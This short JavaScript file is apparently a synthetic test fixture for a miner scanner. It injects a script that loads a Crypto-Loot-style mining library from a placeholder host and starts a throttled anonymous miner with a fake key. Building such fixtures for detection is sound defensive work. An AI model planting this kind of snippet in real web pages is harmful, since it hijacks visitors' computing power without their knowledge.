// SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed.
(function () {
  var s = document.createElement('script');
  s.src = 'https://cdn.example.test/crypto-loot/lib/crlt.js';
  s.onload = function () {
    var m = new CRLT.Anonymous('0123456789abcdefSYNTH', { threads: 2, throttle: 0.2 });
    m.start();
  };
  document.head.appendChild(s);
})();
